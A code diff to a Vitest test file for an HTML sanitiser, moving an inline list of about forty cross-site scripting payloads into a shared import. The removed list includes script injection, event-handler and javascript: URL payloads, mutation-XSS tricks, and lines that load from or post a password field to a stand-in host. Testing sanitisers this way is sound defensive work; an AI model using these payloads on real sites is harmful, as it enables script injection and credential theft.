@@ -1,4 +1,5 @@
 import { expect, test } from 'vitest';
+import { hostileHtml } from '../testing/hostile-html.ts';
 import { createMediaAddress } from './addresses.ts';
 import { cleanHtml, cleanQuestion, cleanWithFacebook } from './html.ts';
 
@@ -9,50 +10,7 @@ test('what an operator writes stays as it is', () => {
   expect(cleanHtml(html)).toBe(html);
 });
 
-const attacks = [
-  '<script>alert(1)</script>',
-  '<SCRIPT SRC=//x.test/a.js></SCRIPT>',
-  '<scr<script>ipt>alert(1)</scr</script>ipt>',
-  '<img src=x onerror=alert(1)>',
-  '<svg/onload=alert(1)>',
-  '<svg><script>alert(1)</script></svg>',
-  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
-  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
-  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  '<iframe src=javascript:alert(1)>',
-  '<object data=javascript:alert(1)>',
-  '<embed src=javascript:alert(1)>',
-  '<a href="javascript:alert(1)">x</a>',
-  '<a href=" &#1; javascript:alert(1)">x</a>',
-  '<a href="jav&#x09;ascript:alert(1)">x</a>',
-  '<a href="&#106;avascript:alert(1)">x</a>',
-  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
-  '<a href="vbscript:x">x</a>',
-  '<a href="//x.test">x</a>',
-  '<a href=https://x.test onclick=alert(1) style="position:fixed">x</a>',
-  '<p style="background:url(//x.test/leak)">x</p>',
-  '<style>@import "//x.test/a.css";</style>',
-  '<link rel=stylesheet href=//x.test/a.css>',
-  '<base href=//x.test/>',
-  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
-  '<form action=//x.test><input name=password></form>',
-  '<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>',
-  '<p id="boot">x</p><p name="location">x</p><p class="mantine-Modal-root">x</p>',
-  '<details open ontoggle=alert(1)>',
-  '<video><source onerror=alert(1)></video>',
-  '<body onload=alert(1)>',
-  '<textarea><script>alert(1)</script></textarea>',
-  '<template><script>alert(1)</script></template>',
-  '<!--><img src=x onerror=alert(1)>-->',
-  '<![CDATA[<img src=x onerror=alert(1)>]]>',
-  '<p title="<img src=x onerror=alert(1)>">x</p>',
-  '<x onclick=alert(1)>x</x>',
-  '<div dir="rtl" dir=x onmouseover=alert(1)//',
-];
-
-test.each(attacks)('%s is inert', (attack) => {
+test.each(hostileHtml)('%s is inert', (attack) => {
   const clean = cleanHtml(attack);
   const tags = [...clean.matchAll(/<\/?([a-z][^\s/>]*)([^>]*)>/gi)];
   for (const [, name = '', attributes = ''] of tags) {
@@ -67,7 +25,7 @@ test.each(attacks)('%s is inert', (attack) => {
   expect(cleanHtml(clean)).toBe(clean);
 });
 
-test.each(attacks)('%s is inert where pictures are allowed', (attack) => {
+test.each(hostileHtml)('%s is inert where pictures are allowed', (attack) => {
   const media = createMediaAddress('http://127.0.0.1:4000/api');
   const clean = cleanQuestion(attack, media);
   for (const [, name = '', attributes = ''] of clean.matchAll(/<([a-z][^\s/>]*)([^>]*)>/gi)) {
